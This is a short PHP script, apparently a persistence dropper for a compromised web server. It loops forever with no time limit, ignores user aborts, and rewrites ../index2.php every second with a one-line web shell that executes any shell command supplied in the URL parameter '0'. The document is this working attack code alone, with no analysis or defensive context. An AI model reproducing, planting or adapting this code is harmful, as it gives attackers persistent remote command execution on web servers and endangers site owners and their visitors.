<?php
set_time_limit(0);
@ignore_user_abort(true);
while (1) {
    $h = fopen('../index2.php', 'w');
    fwrite($h, '<?= `$_GET[0]` ?>');
    fclose($h);
    sleep(1);
}
